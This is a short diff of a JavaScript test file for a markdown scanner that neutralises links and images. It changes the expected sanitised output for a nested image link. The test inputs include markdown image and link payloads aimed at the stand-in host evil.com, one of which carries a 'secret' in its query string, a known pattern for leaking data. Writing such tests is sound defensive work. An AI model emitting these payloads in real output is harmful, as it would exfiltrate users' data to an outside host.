@@ -84,7 +84,7 @@ describe('createScanner', () => {
     ['[click](/docs/other)', 'click'],
     ['![p](https://evil.com/?q=secret)', 'p'],
     ['![p](/docs/install)', 'p'],
-    ['[![p](https://evil.com/x.png)](https://evil.com)', '!\\[p\\](https\\://evil.com/x.png)'],
+    ['[![p](https://evil.com/x.png)](https://evil.com)', '!\\[p\\](…)'],
     ['Go to https://evil.com/?q=a now', 'Go to https… now'],
     ['Go to www.evil.com now', 'Go to www… now'],
     ['Go to evil.com/login now', 'Go to evil… now'],
